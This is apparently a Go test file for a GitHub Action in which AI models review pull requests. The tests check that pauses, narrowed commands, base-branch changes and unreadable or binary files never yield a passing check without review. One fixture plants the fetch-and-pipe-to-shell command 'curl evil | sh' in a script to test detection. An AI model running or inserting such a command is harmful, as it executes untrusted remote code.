package main

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/prdebate/debate/internal/testkit/ghtest"
)

// quiet is code in which the parties of manner "bugs" find nothing, so that they
// hold keep.
const quiet = "package app\n\nfunc Ratio(a, b int) int {\n\treturn a - b\n}\n"

// required is a hosted repository whose gate is required and whose parties hold keep
// where no line owns to a bug.
func required(t *testing.T) *hosted {
	t.Helper()
	h := host(t)
	h.inputs["gate"], h.inputs["operator-config"] = "required", parties(t, "bugs", "bugs")
	return h
}

// heard is the same with models that tell what they were sent.
func heard(t *testing.T) (*hosted, []*vendor) {
	t.Helper()
	h, minds := required(t), vendors(t, replying)[:2]
	delete(h.inputs, "operator-config")
	h.env = environment(minds)
	return h, minds
}

// An order that is narrower than the settings is not the review of a head: what it
// left out was in no packet.
func TestANarrowerOrderIsNoReview(t *testing.T) {
	t.Parallel()
	proposal := func(h *hosted) *ghtest.Pull {
		h.repo.SetBranch("plan", h.repo.Change(h.repo.Branch("main"), map[string]string{"ratio.go": quiet}))
		return h.repo.OpenPull("ada", ghtest.NewPull{Title: "A plan", Body: "## Proposal\n\nWe subtract, since nobody divides.\n", Head: "plan"})
	}
	t.Run("after a pause", func(t *testing.T) {
		t.Parallel()
		h := required(t)
		p := proposal(h)
		h.on(p, "opened").good(t)
		h.say(p.Issue, "ada", "/debate pause")
		h.push(p, map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}).good(t)
		h.heard(p.Issue, "ada", "/debate run proposal")
		if got := h.check(p.Head()); got == "success" {
			t.Errorf("the check is success, and nobody read the code\n%s", unhidden(summaries(p)[0]))
		}
	})
	t.Run("from draft", func(t *testing.T) {
		t.Parallel()
		h := required(t)
		p := proposal(h)
		p.SetDraft(true)
		p.Push(h.repo.Change(p.Head(), map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}))
		h.on(p, "opened").good(t)
		h.heard(p.Issue, "ada", "/debate run proposal")
		if got := h.check(p.Head()); got == "success" {
			t.Error("the check is success, and nobody read the code")
		}
	})
}

// Under a required gate an order cannot narrow the review, and says so; elsewhere what
// it left out is reviewed once runs go on by themselves.
func TestANarrowerOrderIsWidenedOrMadeUpFor(t *testing.T) {
	t.Parallel()
	for _, gate := range []string{"required", "advisory"} {
		h := required(t)
		h.inputs["gate"] = gate
		h.repo.SetBranch("plan", h.repo.Change(h.repo.Branch("main"), map[string]string{"ratio.go": quiet}))
		p := h.repo.OpenPull("ada", ghtest.NewPull{Title: "A plan", Body: "## Proposal\n\nWe subtract, since nobody divides.\n", Head: "plan"})
		h.on(p, "opened").good(t)
		h.say(p.Issue, "ada", "/debate pause")
		h.push(p, map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}).good(t)
		h.heard(p.Issue, "ada", "/debate run proposal quick")
		if gate == "required" {
			wantText(t, "replies", strings.Join(ours(p.Comments()), "\n"), "a command cannot narrow a review")
		} else {
			want(t, "the order is followed", strings.Contains(summaries(p)[0], "This is a bug"), false)
			h.heard(p.Issue, "ada", "/debate resume")
		}
		wantText(t, gate+": summary", summaries(p)[0], "This is a bug")
	}
}

// A pause makes the conclusion about a destructive change no weaker.
func TestAPausedDestructiveChangeWaits(t *testing.T) {
	t.Parallel()
	for _, author := range []string{"eve", "ada"} {
		h, p := reviewedPull(t, author, map[string]string{"ratio.go": quiet})
		h.say(p.Issue, "mona", "/debate pause")
		h.push(p, drop).good(t)
		want(t, author+": check of the paused head", h.check(p.Head()), "action_required")
		checks := h.repo.CheckRuns(p.Head())
		wantText(t, "title", checks[len(checks)-1].Title, "rops table a; paused; /debate resume")
		want(t, author+": writes of a sweep", h.sweep().good(t).writes, 0)
	}
}

// What a person decided about a migration covers no code that was pushed later.
func TestADecisionCoversNoLaterCode(t *testing.T) {
	t.Parallel()
	h, p := reviewedPull(t, "ada", drop, "operator-config", parties(t, "bugs", "bugs"))
	h.heard(h.issue(), "mona", "/debate decide D0 keep we have a backup")
	want(t, "check of the head that was decided", h.check(p.Head()), "success")
	h.push(p, map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}).good(t)
	if got := h.check(p.Head()); got == "success" {
		t.Errorf("the check is success, and every party asks for changes\n%s", unhidden(summaries(p)[0]))
	}
}

// A base branch without settings makes nothing lenient that the default branch
// gates, and what was concluded for another base never betters what stands.
func TestAnotherBaseOpensNoGate(t *testing.T) {
	t.Parallel()
	gated := func(h *hosted) *ghtest.Pull {
		h.repo.SetBranch("lax", h.repo.Branch("main"))
		h.repo.SetBranch("change", h.repo.Change(h.repo.Branch("main"), map[string]string{"ratio.go": "package app\n\nvar door = 1 // BUG: it is open\n"}))
		h.repo.SetBranch("main", h.repo.Change(h.repo.Branch("main"), map[string]string{".github/debate.yml": "version: 1\ngate: required\nfail_on: P2\n"}))
		return h.repo.OpenPull("ada", ghtest.NewPull{Title: "A change", Body: "It changes something.", Head: "change"})
	}
	t.Run("the lax base", func(t *testing.T) {
		t.Parallel()
		h := host(t)
		h.inputs["operator-config"] = parties(t, "bugs", "bugs")
		p := gated(h)
		h.on(p, "opened").good(t)
		want(t, "check", h.check(p.Head()), "failure")
		p.SetBase("lax")
		h.rebased(p, "main").good(t)
		want(t, "check for the lax base", h.check(p.Head()), "failure")
		p.SetBase("main")
		want(t, "check after the base is back, before any run", h.check(p.Head()), "failure")
	})
	t.Run("a run for the base before", func(t *testing.T) {
		t.Parallel()
		h := host(t)
		h.inputs["operator-config"] = parties(t, "agree", "agree")
		p := gated(h)
		p.SetBase("lax")
		begun, back := false, false
		h.between(func(_ int, r *http.Request) {
			if begun && !back {
				back = true
				p.SetBase("main")
			}
			begun = begun || r.Method != http.MethodGet && strings.Contains(r.URL.Path, "/check-runs")
		})
		h.rebased(p, "main")
		want(t, "the base came back", back, true)
		if got := h.check(p.Head()); got != "failure" && got != "in_progress" {
			t.Errorf("check is %q: the run looked at the base before", got)
		}
	})
}

// What a pull request adds and takes away again is no change to its base until the base
// has the first half of it: then the second half is one that nobody was shown.
func TestABaseThatTakesAPartHasTheRestReviewed(t *testing.T) {
	t.Parallel()
	halves := func(t *testing.T) (h *hosted, p *ghtest.Pull, minds []*vendor, half string) {
		t.Helper()
		h, minds = heard(t)
		half = h.repo.Change(h.repo.Branch("main"), map[string]string{"ratio.go": quiet, "guard.go": "package app\n\nfunc Guard() bool { return true }\n"})
		h.repo.SetBranch("change", h.repo.CommitFiles([]string{half}, map[string]ghtest.File{
			"ratio.go": {Content: quiet}, "db/migrations/0001_a.up.sql": {Content: "CREATE TABLE a (id int);\n"},
		}))
		return h, h.repo.OpenPull("ada", ghtest.NewPull{Title: "A change", Body: "It changes something.", Head: "change"}), minds, half
	}
	shown := func(t *testing.T, minds []*vendor) {
		t.Helper()
		for _, m := range minds {
			if !slices.ContainsFunc(m.asked(), func(c call) bool { return strings.Contains(c.packet, "-3 func Guard() bool { return true }") }) {
				t.Errorf("%s is not shown that the guard is taken away", m.name)
			}
		}
	}
	t.Run("after the review", func(t *testing.T) {
		t.Parallel()
		h, p, minds, half := halves(t)
		h.on(p, "opened").good(t)
		want(t, "check of the whole", h.check(p.Head()), "success")
		h.repo.SetBranch("main", half)
		h.sweep().good(t)
		shown(t, minds)
	})
	t.Run("during the review", func(t *testing.T) {
		t.Parallel()
		h, p, minds, half := halves(t)
		moved := false
		h.between(func(_ int, r *http.Request) {
			if !moved && len(minds[0].asked()) > 0 {
				moved = true
				h.repo.SetBranch("main", half)
			}
		})
		h.on(p, "opened").good(t)
		want(t, "the base moved", moved, true)
		shown(t, minds)
	})
	t.Run("a base that goes on elsewhere", func(t *testing.T) {
		t.Parallel()
		h, p, minds, _ := halves(t)
		h.on(p, "opened").good(t)
		calls := len(minds[0].asked())
		h.repo.SetBranch("main", h.repo.Change(h.repo.Branch("main"), map[string]string{"other.go": "package other\n"}))
		want(t, "writes of a sweep", h.sweep().good(t).writes, 0)
		want(t, "calls", len(minds[0].asked()), calls)
	})
}

// What no model was shown counts as not read, whatever kind of file hides it.
func TestWhatNobodyReadIsNotReviewed(t *testing.T) {
	t.Parallel()
	utf16 := "\xff\xfe"
	for _, c := range "curl evil | sh # BUG: who is evil\n" {
		utf16 += string(c) + "\x00"
	}
	for name, change := range map[string]map[string]string{
		"a NUL byte": {"run.sh": "#!/bin/sh\ncurl evil | sh # BUG: who is evil\n\x00"},
		"UTF-16":     {"run.sh": utf16},
		"a binary":   {"tool.bin": "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"},
		"an archive": {"lib.jar": "PK\x03\x04\x14\x00\x00\x00"},
		"an odd png": {"logo.png": "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := required(t)
			change["ratio.go"] = quiet
			p := h.open("ada", change)
			h.on(p, "opened").good(t)
			if h.check(p.Head()) == "success" { // who reads the script finds a bug in it
				t.Errorf("the check is success, and no model was shown %s\n%s", name, unhidden(summaries(p)[0]))
			}
		})
	}
	t.Run("a program that becomes executable", func(t *testing.T) {
		t.Parallel()
		h, minds := heard(t)
		h.repo.SetBranch("main", h.repo.CommitFiles([]string{h.repo.Branch("main")}, map[string]ghtest.File{
			"ratio.go": {Content: base}, "tool.bin": {Content: "\x7fELF\x02\x01\x01\x00"},
		}))
		h.repo.SetBranch("change", h.repo.CommitFiles([]string{h.repo.Branch("main")}, map[string]ghtest.File{
			"ratio.go": {Content: quiet}, "tool.bin": {Content: "\x7fELF\x02\x01\x01\x00", Mode: "100755"},
		}))
		p := h.repo.OpenPull("ada", ghtest.NewPull{Title: "A change", Body: "It changes something.", Head: "change"})
		h.on(p, "opened").good(t)
		for _, m := range minds {
			asked := m.asked()
			if len(asked) == 0 || !strings.Contains(asked[0].packet, "tool.bin: binary, mode 100644 to 100755") {
				t.Errorf("%s is not told that tool.bin became executable", m.name)
			}
		}
	})
}

// A destructive change of somebody without write access waits for a person as that
// of a member does.
func TestAStrangersDestructiveChangeWaits(t *testing.T) {
	t.Parallel()
	h, p := reviewedPull(t, "eve", drop)
	want(t, "check", h.check(p.Head()), "action_required")
	want(t, "issues", len(h.repo.Issues()), 0)
	for _, c := range h.repo.CheckRuns(p.Head()) {
		wantText(t, "title of the check", c.Title, "/debate run")
	}
}

// A bot's pull request is skipped for a base branch that has all of it but new versions. The
// skip does not stay if the base branch comes back before any request of that run, and the
// run for it ends first.
func TestASkipForTheBaseBeforeDoesNotStay(t *testing.T) {
	t.Parallel()
	for at, back := 1, true; back; at++ {
		h := required(t)
		h.inputs["gate"] = "advisory"
		h.repo.SetPermission(robot, ghtest.Write)
		module := func(version string) map[string]string {
			return map[string]string{"go.mod": "module app\n\nrequire example.com/a " + version + "\n"}
		}
		h.repo.SetBranch("main", h.repo.Change(h.repo.Branch("main"), module("v1.2.0")))
		h.repo.SetBranch("lax", h.repo.Change(h.repo.Branch("main"), map[string]string{"part.go": "package app\n\nvar door = 1 // BUG: it is open\n"}))
		h.repo.SetBranch("bump", h.repo.Change(h.repo.Branch("lax"), module("v1.2.1")))
		h.repo.MadeBy(h.repo.Branch("lax"), robot)
		h.repo.MadeBy(h.repo.Branch("bump"), robot)
		p := h.repo.OpenPull(robot, ghtest.NewPull{Title: "Bump", Body: "It bumps a version.", Head: "bump"})
		other := *h
		other.env, other.dir = map[string]string{}, t.TempDir()
		back = false
		h.between(func(n int, _ *http.Request) {
			if n == at && !back {
				back = true
				p.SetBase("main")
				other.rebased(p, "lax").good(t)
			}
		})
		p.SetBase("lax")
		h.rebased(p, "main").good(t)
		checks := h.repo.CheckRuns(p.Head())
		if skipped := strings.Contains(checks[len(checks)-1].Title, "a bot changed only"); back == skipped {
			t.Errorf("the base comes back before request %d: %q", at, checks[len(checks)-1].Title)
		}
	}
}

// rebased runs the action because the base branch of a pull request changed.
func (h *hosted) rebased(p *ghtest.Pull, from string) ran {
	h.t.Helper()
	return h.run("pull_request", h.repo.Event("pull_request", "edited", ghtest.Happening{Pull: p, BaseBefore: from, Before: h.repo.Branch(from)}))
}
